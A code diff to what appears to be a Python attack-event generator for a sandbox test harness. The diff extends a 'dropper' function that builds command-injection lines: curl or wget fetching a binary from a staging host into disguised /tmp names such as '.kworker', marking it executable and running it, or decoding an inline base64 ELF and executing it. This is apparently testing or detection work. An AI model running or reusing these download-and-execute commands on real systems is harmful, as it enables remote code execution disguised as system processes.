@@ -3,10 +3,11 @@ the class's vulnerable function, the variant's name, and what the host services 
 sandbox report must show once it ran (checked by the self-test)."""
 
 import base64
+import hashlib
 import pickle
 
 from . import payloads as p
-from .hosts import STAGE_BINARY
+from .hosts import STAGE_BINARIES
 from .workloads import api_event, lognormal
 
 GUEST = "{'user': 'guest', 'cart': []}"
@@ -61,20 +62,34 @@ def command_injection(rng, ports, scale):
 
 
 def dropper(rng, ports, scale):
+    """Fetches (or unpacks) an ELF into /tmp and runs it: either a quick `uname -a`, or a
+    hashing tool fed tens of MB, whose digest proves it ran."""
     url = f"http://{p.HOST}:{ports['stage']}"
     choice = rng.choice(("curl-stage", "wget-stage", "inline-b64"))
-    if choice == "curl-stage":
-        line = (f"{BREAK} curl -s -m 5 {url}/k -o /tmp/.kworker && chmod +x /tmp/.kworker "
-                f"&& /tmp/.kworker -a #")
-    elif choice == "wget-stage":
-        line = (f"{BREAK} wget -q -T 5 -O /tmp/.cache-upd {url}/u && chmod 755 /tmp/.cache-upd "
-                f"&& /tmp/.cache-upd -a; rm -f /tmp/.cache-upd #")
+    path = rng.choice(("/k", "/h"))
+    megabytes = rng.randint(20, 80)
+    if path == "/k":
+        expect = "Linux"
+
+        def run(binary):
+            return f"{binary} -a"
     else:
-        with open(STAGE_BINARY, "rb") as f:
+        expect = hashlib.sha256(bytes(megabytes << 20)).hexdigest()
+
+        def run(binary):
+            return f"(head -c {megabytes}M /dev/zero | {binary})"
+    if choice == "curl-stage":
+        line = (f"{BREAK} curl -s -m 5 {url}{path} -o /tmp/.kworker && chmod +x /tmp/.kworker "
+                f"&& {run('/tmp/.kworker')} #")
+    elif choice == "wget-stage":
+        line = (f"{BREAK} wget -q -T 5 -O /tmp/.cache-upd {url}{path} && chmod 755 /tmp/.cache-upd "
+                f"&& {run('/tmp/.cache-upd')}; rm -f /tmp/.cache-upd #")
+    else:
+        with open(STAGE_BINARIES[path], "rb") as f:
             blob = p.b64(f.read())
         line = (f"{BREAK} echo {blob} | base64 -d > /tmp/x86_64 && chmod +x /tmp/x86_64 "
-                "&& /tmp/x86_64 -a; rm -f /tmp/x86_64 #")
-    return _doc_event(rng, line), choice, {"output_contains": "Linux"}
+                f"&& {run('/tmp/x86_64')}; rm -f /tmp/x86_64 #")
+    return _doc_event(rng, line), f"{choice}{path}", {"output_contains": expect}
 
 
 def persistence(rng, ports, scale):
